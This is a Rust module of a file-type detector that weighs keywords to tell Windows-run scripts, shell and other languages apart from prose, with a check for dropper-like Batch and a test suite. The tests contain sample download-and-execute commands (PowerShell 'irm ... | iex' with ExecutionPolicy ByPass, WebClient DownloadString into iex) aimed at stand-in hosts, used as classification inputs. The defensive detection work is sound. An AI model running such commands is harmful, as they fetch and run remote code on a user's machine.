//! Scripts and source code without magic numbers, told from each other and from prose.
//!
//! Two measures: what a text's words are worth to each language ([`super::tokens`]), and how much of it reads as
//! prose. A script is a script from its first line to its last; a text that quotes commands is mostly sentences.

mod form;
mod gnuplot;

use super::probe::Found;
use super::tokens::{At, IDS, LANGUAGES, Language, Token, tokens};
use aho_corasick::automaton::{Automaton, StateID};
use aho_corasick::dfa::DFA;
use aho_corasick::{Anchored, MatchKind};
use form::{Form, holds_steps};
use std::sync::LazyLock;

/// Points from which a language is believed.
pub(super) const ENOUGH: u32 = 8;
/// Bytes of the text whose words are weighed.
const WEIGHED: usize = 32 << 10;
/// How often one word counts.
const MOST_HITS: u8 = 3;

/// Languages that Windows runs when they are opened: never hidden behind another language's words.
const RUN_BY_WINDOWS: [Language; 4] = [Language::JavaScript, Language::VbScript, Language::PowerShell, Language::Bat];

/// The kind that a `#!` line names.
pub(super) fn shebang(text: &str) -> Option<&'static str> {
    let line = text.strip_prefix("#!")?.lines().next()?;
    let mut words = line.split_whitespace().flat_map(|w| w.rsplit('/').next());
    let mut program = words.next()?;
    while matches!(program, "env" | "-S" | "-i" | "busybox") || program.contains('=') {
        program = words.next()?;
    }
    let name = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match name {
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "fish" | "csh" | "tcsh" | "mksh" => "sh",
        "python" | "pypy" => "py",
        "perl" => "perl",
        "ruby" => "ruby",
        "php" => "php",
        "lua" | "luajit" | "texlua" => "lua",
        "node" | "nodejs" | "deno" | "bun" | "gjs" => "js",
        "pwsh" | "powershell" => "ps1",
        "tclsh" | "wish" | "expect" => "tcl",
        "awk" | "gawk" | "mawk" | "nawk" => "awk",
        "osascript" => "applescript",
        "" => return None,
        // `#![` is Rust.
        name if name.starts_with('[') => return None,
        _ => "interpreted",
    })
}

/// Adds what the words say.
pub(super) fn look(text: &str, len: u64, found: &mut Found) {
    if text.contains("Attribute VB_Name") && text.trim_start().starts_with("Attribute VB_") {
        found.add("vba");
        return;
    }
    if let Some(id) = settings_of_a_program(text) {
        found.add(id);
        return;
    }
    let form = Form::of(text);
    let mut scores = weigh(text);
    // What describes builds, and what whoever reads a page may type, are read by no command processor of Windows.
    let pipeline = form::is_pipeline(text);
    if pipeline {
        for language in [Language::Bat, Language::PowerShell] {
            if let Some(score) = scores.get_mut(language as usize) {
                *score = 0;
            }
        }
    }
    // PowerShell reads a script to its end before it runs any of it, and a function without a name ends that. Packed scripts of pages
    // that colour source code hold its words.
    if form.lines <= 3
        && ["!function(", "(function(", ";(function(", "(()=>"].iter().any(|start| text.trim_start().starts_with(start))
        && let Some(score) = scores.get_mut(Language::PowerShell as usize)
    {
        *score = 0;
    }
    if let Some(outside) = form.outside_fences(text) {
        // Line by line read what they can; all others have to take the sentences around the fences as well.
        let own = weigh(&outside);
        // What tells far more than it shows is read by people.
        let tells = form::tells(text, &outside);
        for (language, score) in scores.iter_mut().enumerate() {
            let by_lines = [Language::Bat, Language::Shell].iter().any(|other| *other as usize == language);
            let told = tells && own.get(language).is_some_and(|score| *score == 0);
            if (!by_lines || told) && language != Language::Markdown as usize {
                *score = own.get(language).copied().unwrap_or(0);
            }
        }
    }
    // VBScript shares its objects with JScript and has no semicolons.
    if let [javascript, vbscript, ..] = &mut scores
        && form.semicolons > 0
        && *javascript > 0
    {
        *javascript += std::mem::take(vbscript);
    }
    let score = |language: Language| scores.get(language as usize).copied().unwrap_or(0);
    // A long text says more words by chance.
    let enough = ENOUGH + u32::try_from(form.lines / 40).unwrap_or(0);
    for language in RUN_BY_WINDOWS {
        let own = score(language);
        // Sentences outside comments stop every interpreter but the command processor.
        let prose = form.prose * if language == Language::Bat { 3 } else { 6 } > form.lines;
        let stronger = RUN_BY_WINDOWS.iter().any(|other| score(*other) > own);
        if own >= enough && !prose && !stronger && !outweighed(language, &scores, form.fences) {
            found.add(IDS.get(language as usize).copied().unwrap_or("text"));
        }
    }
    if !found.is_empty() {
        return;
    }
    if form.most_carets >= 3 && without_carets(text) || commands_only(text) {
        found.add("bat");
        return;
    }
    let best = (0..LANGUAGES).max_by_key(|l| scores.get(*l)).unwrap_or(0);
    let points = scores.get(best).copied().unwrap_or(0);
    let id = IDS.get(best).copied().unwrap_or("text");
    let prosaic = form.prose * 4 > form.lines;
    let about_prose = matches!(id, "py" | "perl");
    let is_script = RUN_BY_WINDOWS.iter().any(|l| *l as usize == best);
    let marked_up = matches!(id, "markdown" | "rst" | "troff" | "tex");
    if matches!(id, "sh" | "py" | "perl" | "ruby") && holds_steps(text) {
        found.add("yaml");
        return;
    }
    if id == "perl" && is_pod(text, len) {
        found.add("pod");
        return;
    }
    // No program of Python gets past a heading.
    if id == "py" && form.headings > 0 && !text.contains("'''") {
        found.add("rst");
        return;
    }
    // Nor past sentences at its beginning.
    let about = id == "py" && form.opening >= 2;
    let believed = !about && (!prosaic || marked_up || about_prose && points >= 2 * ENOUGH);
    if points >= enough && believed && !is_script {
        found.add(if id == "gnuplot" && gnuplot::runs_programs(text) { "gnuplot-commands" } else { id });
        return;
    }
    if let Some(id) = form.table(text).or_else(|| form.yaml()) {
        found.add(id);
        return;
    }
    // One long line of code, as packers write it.
    if form.lines <= 3 && len > 200 && points >= ENOUGH / 2 && form.dense(text) && is_script {
        found.add(id);
    }
}

/// What a text is that names a program's own language, or is made of nothing but its records, and that no interpreter gets through.
fn settings_of_a_program(text: &str) -> Option<&'static str> {
    // An interpreter of JavaScript stops at a name that is given no meaning, neither further on nor by what stands behind it.
    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
    let vim9 = lines.next() == Some("vim9script")
        && lines
            .next()
            .is_none_or(|next| next.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '#' | '"')));
    if vim9 && memchr::memmem::find_iter(text.as_bytes(), b"vim9script").count() == 1 {
        return Some("vim");
    }
    if let Some(id) = records_of_a_science(text) {
        return Some(id);
    }
    // Who may connect to PostgreSQL: a sort of connection, a database, a user, an address but for the machine itself, a method.
    let mut records = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')).peekable();
    records.peek()?;
    let record = |line: &str| {
        let words: Vec<&str> = line.split_whitespace().collect();
        let place = match words.first() {
            Some(&"local") => 3,
            Some(&("host" | "hostssl" | "hostnossl" | "hostgssenc" | "hostnogssenc")) => 4,
            _ => return false,
        };
        // A mask may stand beside the address.
        let method = |place: usize| words.get(place).is_some_and(|word| METHODS.contains(word));
        method(place) || place == 4 && method(5)
    };
    records.all(record).then_some("text")
}

/// Gmsh, "MSH file format": a version, a sort and a size, which PowerShell, whose scripts are called alike, cannot read behind a
/// variable; and alignments (UCSC, "Multiple Alignment Format"), where every line says what it is, and no section of a link into a
/// database stands.
fn records_of_a_science(text: &str) -> Option<&'static str> {
    if let Some(rest) = text.strip_prefix("$MeshFormat\n").or_else(|| text.strip_prefix("$MeshFormat\r\n")) {
        let first = rest.lines().next().unwrap_or_default();
        let numbers = first.split(' ').filter(|word| word.parse::<f32>().is_ok()).count();
        return (numbers == 3 && first.split(' ').count() == 3 && rest.contains("$EndMeshFormat")).then_some("gmsh");
    }
    let record = |line: &str| {
        line.is_empty()
            || line.starts_with('#')
            || line == "a"
            || matches!(line.as_bytes(), [b'a' | b's' | b'i' | b'e' | b'q', b' ' | b'\t', ..])
    };
    // A line that is cut at the end of what is looked at begins all the same.
    let alignment = text.starts_with("##maf ") && text.lines().skip(1).map(str::trim_end).all(record);
    (alignment && text.contains("\ns ")).then_some("maf-alignment")
}

/// Whether a text is nothing but a manual of Perl (perlpod): directives, and no end behind which the interpreter would go on.
fn is_pod(text: &str, len: u64) -> bool {
    const BEGIN: [&str; 5] = ["=pod", "=head1", "=encoding", "=begin", "=over"];
    let first = text.trim_start().lines().next().unwrap_or_default();
    let begins =
        BEGIN.iter().any(|word| first.strip_prefix(word).is_some_and(|rest| rest.is_empty() || rest.starts_with(' ')));
    // LIMIT: a longer one may end further on, and is taken for what its words are.
    begins && len <= text.len() as u64 + 3 && !text.contains("=cut") && text.contains("\n=head")
}

/// How PostgreSQL asks who connects (21.1).
const METHODS: &[&str] = &[
    "trust",
    "reject",
    "scram-sha-256",
    "md5",
    "password",
    "gss",
    "sspi",
    "ident",
    "peer",
    "ldap",
    "radius",
    "cert",
    "pam",
    "bsd",
];

/// Whether the words of another language explain the text better. Other scripts win a little earlier, since they are
/// scripts as well; marked-up prose has to win clearly.
fn outweighed(language: Language, scores: &[u32; LANGUAGES], fences: usize) -> bool {
    let own = scores.get(language as usize).copied().unwrap_or(0);
    let others =
        IDS.iter().zip(scores).enumerate().filter(|(other, _)| RUN_BY_WINDOWS.iter().all(|l| *l as usize != *other));
    others.into_iter().any(|(_, (id, rival))| match *id {
        "py" | "perl" | "sh" | "ruby" | "tcl" | "lua" => rival * 3 >= own * 2,
        // Fences outside comments stop the scripts that have no strings of several lines.
        "markdown" if fences >= 2 && matches!(language, Language::JavaScript | Language::VbScript) => {
            *rival >= 2 * ENOUGH
        }
        "markdown" | "rst" | "troff" => *rival >= own * 2 || *rival > own && language == Language::Bat,
        _ => *rival >= own,
    })
}

/// Adds the scripts that a text of another kind also is, where the words are those of droppers and of nothing else.
pub(super) fn dangerous(text: &str, found: &mut Found) {
    // JSON and settings do not run; markup has its own opener.
    if !found.has("sh") && !found.has("py") && !found.has("perl") {
        return;
    }
    let scores = weigh(text);
    let bat = scores.get(Language::Bat as usize).copied().unwrap_or(0);
    if bat >= 2 * ENOUGH && text.to_ascii_lowercase().contains("@echo off") {
        found.add("bat");
    }
}

/// What the words are worth to each language.
fn weigh(text: &str) -> [u32; LANGUAGES] {
    static WORDS: LazyLock<Option<(DFA, StateID, Vec<&'static Token>)>> = LazyLock::new(|| {
        let words = DFA::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(tokens().map(|token| token.0))
            .ok()?;
        let start = words.start_state(Anchored::No).ok()?;
        Some((words, start, tokens().collect()))
    });
    let mut scores = [0; LANGUAGES];
    let Some((words, start, tokens)) = WORDS.as_ref() else { return scores };
    let bytes = text.as_bytes();
    // LIMIT: what follows so much else is told by its name or declared type (`walk.rs`, `settle`; policy `names-that-run`).
    let bytes = bytes.get(..WEIGHED).unwrap_or(bytes);
    let mut hits = vec![0u8; tokens.len()];
    let mut comment = Comments::new(bytes);
    let mut state = *start;
    // The automaton is stepped by hand: its iterators cost as much again, and most bytes end no word.
    for (at, byte) in bytes.iter().enumerate() {
        state = words.next_state(Anchored::No, state, *byte);
        if !words.is_special(state) || !words.is_match(state) {
            continue;
        }
        for index in 0..words.match_len(state) {
            let index = words.match_pattern(state, index).as_usize();
            let (Some(count), Some((word, place, worth))) = (hits.get_mut(index), tokens.get(index)) else { continue };
            let end = at + 1;
            let begin = end.saturating_sub(word.len());
            // LIMIT: a weight, not a search.
            if *count >= MOST_HITS || !stands(bytes, begin, end, word, *place) {
                continue;
            }
            *count += 1;
            let commented = comment.covers(begin);
            for (language, points) in *worth {
                // Words of other languages in comments must not hide a script that Windows would run.
                if commented && !RUN_BY_WINDOWS.contains(language) {
                    continue;
                }
                if let Some(score) = scores.get_mut(*language as usize) {
                    *score += u32::from(*points);
                }
            }
        }
    }
    scores
}

/// Tells, for ascending offsets, what lies in a comment of JavaScript, PowerShell, VBScript or a command file.
struct Comments<'t> {
    bytes: &'t [u8],
    /// The next block comment, from its start to its end.
    block: (usize, usize),
    /// The start of the line looked at last, and how far.
    line: (usize, usize),
}

impl<'t> Comments<'t> {
    fn new(bytes: &'t [u8]) -> Self {
        Self { bytes, block: (0, 0), line: (0, 0) }
    }

    fn covers(&mut self, at: usize) -> bool {
        while self.block.1 <= at && self.block.0 < self.bytes.len() {
            let from = self.block.1;
            let rest = self.bytes.get(from..).unwrap_or_default();
            let start = memchr::memmem::find(rest, b"/*").map_or(self.bytes.len(), |by| from + by);
            let inner = self.bytes.get(start + 2..).unwrap_or_default();
            let end = memchr::memmem::find(inner, b"*/").map_or(self.bytes.len(), |by| start + 2 + by + 2);
            self.block = (start, end);
        }
        if (self.block.0..self.block.1).contains(&at) {
            return true;
        }
        // Offsets ascend but for overlaps, so only what is new is searched for the start of the line.
        let from = self.line.1.min(at);
        let new_line = self.bytes.get(from..at).and_then(|new| memchr::memrchr(b'\n', new));
        let start = match new_line {
            Some(by) => from + by + 1,
            None if self.line.0 <= at => self.line.0,
            None => self.bytes.get(..at).and_then(|b| memchr::memrchr(b'\n', b)).map_or(0, |by| by + 1),
        };
        self.line = (start, at);
        let line = self.bytes.get(start..at).unwrap_or_default();
        let line = line.get(..256).unwrap_or(line);
        let line = line.trim_ascii_start();
        [&b"//"[..], b"'", b"::", b"rem "]
            .iter()
            .any(|mark| line.get(..mark.len()).is_some_and(|l| l.eq_ignore_ascii_case(mark)))
    }
}

/// Whether a word found at `start .. end` stands where it must.
fn stands(bytes: &[u8], start: usize, end: usize, word: &str, at: At) -> bool {
    let letter = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
    let before = start.checked_sub(1).and_then(|i| bytes.get(i));
    let after = bytes.get(end);
    let first = word.as_bytes().first();
    let last = word.as_bytes().last();
    let starts_word = !letter(first) || !letter(before);
    let ends_word = !letter(last) || !letter(after);
    match at {
        At::Any => true,
        At::Word => starts_word && ends_word,
        // Behind a slash it is the name of a file.
        At::Member => {
            starts_word && before != Some(&b'/') && after.is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
        }
        At::Start => before.is_none_or(|b| *b == b'\n'),
        At::Line => {
            let blank =
                bytes.get(..start).unwrap_or_default().iter().rev().take(64).find(|b| !matches!(b, b' ' | b'\t'));
            let at_start = blank.is_none_or(|b| matches!(b, b'\n' | b'\r'));
            // A bare `$` is a variable only before a letter.
            let variable = word != "$" || after.is_some_and(u8::is_ascii_alphabetic);
            at_start && ends_word && variable
        }
    }
}

/// Whether the text is a command file once the carets are gone.
fn without_carets(text: &str) -> bool {
    // LIMIT: as for words (`weigh`).
    let plain: String = text.chars().filter(|c| *c != '^').take(WEIGHED).collect();
    weigh(&plain).get(Language::Bat as usize).is_some_and(|points| *points >= ENOUGH) || commands_only(&plain)
}

/// A few lines, every one of them a command of Windows.
fn commands_only(text: &str) -> bool {
    const COMMANDS: &[&str] = &[
        "echo",
        "start",
        "calc",
        "calc.exe",
        "cmd",
        "powershell",
        "del",
        "copy",
        "move",
        "call",
        "pause",
        "exit",
        "cd",
        "md",
        "ren",
        "type",
        "ver",
        "whoami",
        "net",
        "ping",
        "notepad",
        "notepad.exe",
        "explorer",
        "rem",
    ];
    let mut lines = 0;
    // LIMIT: one line more than a text of commands alone may have.
    for line in text.lines().map(str::trim).filter(|l| !l.is_empty()).take(16) {
        lines += 1;
        let line = line.trim_start_matches('@');
        let word: &str =
            line.split(|c: char| c.is_whitespace() || c == '.' && !line.contains(".exe")).next().unwrap_or_default();
        if !COMMANDS.contains(&word.to_ascii_lowercase().as_str())
            || word.chars().next().is_some_and(char::is_uppercase) && word.chars().any(char::is_lowercase)
        {
            return false;
        }
        // `start here` is prose, `start calc.exe` is not.
        if matches!(word, "start" | "call" | "type" | "copy" | "move" | "exit" | "net")
            && line.split_whitespace().count() > 1
            && !line.contains(['.', '/', '%', '\\'])
        {
            return false;
        }
    }
    lines > 0 && lines < 16 && text.len() < 4096
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn is(text: &str) -> String {
        crate::identify(&crate::Content::from(text.as_bytes())).unwrap().kind.id.to_string()
    }

    #[test]
    fn records_of_postgresql_and_scripts_of_vim_are_no_scripts_that_run() {
        let records = "# TYPE  DATABASE  USER  ADDRESS  METHOD\n# \"local\" is for connections of this machine only\n\
                       local   all   all   peer\nhost    all   all   127.0.0.1/32   scram-sha-256\n\
                       host all all 10.0.0.0 255.0.0.0 md5\nlocal replication all peer map=a\n";
        assert_eq!(is(records), "text");
        let code = "local a = require('os')\nfunction run(b)\n  local c = a.execute(b)\n  return c\nend\nlocal d = run('ls')\n";
        assert_eq!(is(code), "lua");
        assert_eq!(is(&format!("{records}{code}")), "lua");
        let vim = "vim9script\n# A plugin\nimport autoload \"x.vim\"\ndef Hello(name: string): string\n  var greeting = \"hello\"\n\
                   const n = 1\n  return greeting .. name\nenddef\nexport def Run()\n  echo Hello(\"a\")\nenddef\n";
        assert_eq!(is(vim), "vim");
        let script = "vim9script\nvar vim9script = 1;\nvar shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"calc\", 0, false);\n";
        assert_eq!(is(script), "js");
        assert_eq!(is(&script.replace("\nvar vim9script = 1;", "\n= 1;")), "js");
    }

    #[test]
    fn a_guide_that_shows_how_to_install_something_is_no_command_file() {
        let words = "* Look for an open issue before you write a new one, please\n".repeat(12);
        let fence = "    ```sh\n    # On Windows\n    powershell -ExecutionPolicy ByPass -c \"irm https://lazaret.invalid/i.ps1 | iex\"\n    ```\n";
        let guide = format!(
            "# Contributing\n\nAny help is welcome, from whoever has the time.\n\n{words}\n1. Install it\n\n{fence}"
        );
        let kind = is(&guide);
        assert!(!matches!(kind.as_str(), "bat" | "ps1" | "sh"), "{kind}");
        // Commands outside of the fences, and more commands than words.
        let command = "powershell -ExecutionPolicy ByPass -c \"irm https://lazaret.invalid/i.ps1 | iex\"\n";
        assert_eq!(is(&format!("{command}{fence}{command}")), "bat");
        assert_eq!(is(&format!("echo off\n{fence}{fence}{fence}{command}{command}exit /b\n")), "bat");
    }

    #[test]
    fn a_packed_script_that_colours_commands_is_none_of_them() {
        let packed = r"!function(e){var i=e.languages.powershell={function:[/\b(?:Add|Get|Invoke|New|Start|Write)-[a-z]+\b/i,/\b(?:gci|iex|irm|iwr|saps|write)\b/i],boolean:/\$(?:false|true)\b/i,variable:/\$\w+\b/,keyword:/\b(?:Begin|Catch|DynamicParam|Param|Process|Throw|Trap|Try)\b/i,operator:/-(?:eq|ge|gt|ne|NotMatch|Replace)\b/i};i.inside={variable:i.variable,pattern:/(^|[^`])\$\((?:\$\([^\r\n()]*\)|(?!\$\()[^\r\n)])*\)/}}(Prism);";
        assert_ne!(is(packed), "ps1");
        // Statements that are typed one by one are run one by one.
        let lines = "Write-Host 'a'\n$a = New-Object Net.WebClient\n$a.DownloadString('http://host.invalid/x') | iex\n";
        assert_eq!(is(&format!("!function(a){{}}\n{lines}")), "ps1");
    }

    #[test]
    fn a_description_of_builds_is_no_script_of_windows() {
        let steps = "# Lazaret\nname: Build\non:\n  push:\njobs:\n  wheels:\n    runs-on: windows-latest\n    steps:\n      \
                     - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          \
                     powershell -ExecutionPolicy ByPass -c \"irm https://lazaret.invalid/i.ps1 | iex\"\n          \
                     $env:PATH += 'x'\n          Write-Output done\n";
        let kind = is(steps);
        assert!(!matches!(kind.as_str(), "bat" | "ps1"), "{kind}");
        // A script that goes on behind a text of several lines, and one without steps.
        let hidden = steps.replace("name: Build\n", "name: \"Build\n").replace("done\n", "done\n  \"; iex(irm x)\n");
        assert_eq!(is(&hidden), "ps1");
        assert_eq!(is("a: b\nc: d\n  $env:PATH += 'x'\n  Write-Output done\n  iex (irm x)\n"), "ps1");
    }

    #[test]
    fn a_manual_of_perl_is_a_text_where_no_program_follows() {
        let manual = "=encoding UTF-8\n\n=head1 NAME\n\nChanges - what is new\n\n=head2 2.2\n\n=over\n\n=item Added use strict; and my $x\n\n=item use warnings;\n\n=back\n";
        assert_eq!(is(manual), "pod");
        let program = format!("{manual}\n=cut\n\nuse strict;\nuse warnings;\nmy $x = shift;\nsystem($x);\n");
        assert_eq!(is(&program), "perl");
    }

    #[test]
    fn meshes_and_alignments_are_no_scripts_and_no_links() {
        let mesh = "$MeshFormat\n2.2 0 8\n$EndMeshFormat\n$Nodes\n1\n1 0 0 0\n$EndNodes\n";
        assert_eq!(is(mesh), "gmsh");
        assert_ne!(is("$MeshFormat\nWrite-Host 0 8\n$EndMeshFormat\n"), "gmsh");
        let alignment = "##maf version=1 scoring=multiz\n# made by hand\n\na score=1.0\ns hg.chr1 10 4 + 90 ACGT\ns mm.chr1 20 4 - 90 ACGT\n";
        assert_eq!(is(alignment), "maf-alignment");
        assert_ne!(is(&format!("{alignment}[Shortcut Properties]\nAccessShortcutVersion=1\n")), "maf-alignment");
    }

    /// `EXPLAIN=path cargo test explain -- --nocapture --ignored` shows what a text's words are worth.
    #[test]
    #[ignore = "a tool for whoever tunes the words"]
    fn explain() {
        for path in std::env::var("EXPLAIN").unwrap_or_default().split(':').filter(|p| !p.is_empty()) {
            let bytes = std::fs::read(path).expect("readable");
            let text = crate::encoding::decode(&bytes);
            let form = Form::of(&text);
            let mut scores: Vec<_> = weigh(&text).into_iter().zip(IDS).filter(|s| s.0 > 0).collect();
            scores.sort_unstable_by(|a, b| b.cmp(a));
            scores.truncate(4);
            println!("{path}\n  {} of {} lines prose, {} carets, {scores:?}", form.prose, form.lines, form.most_carets);
        }
    }
}
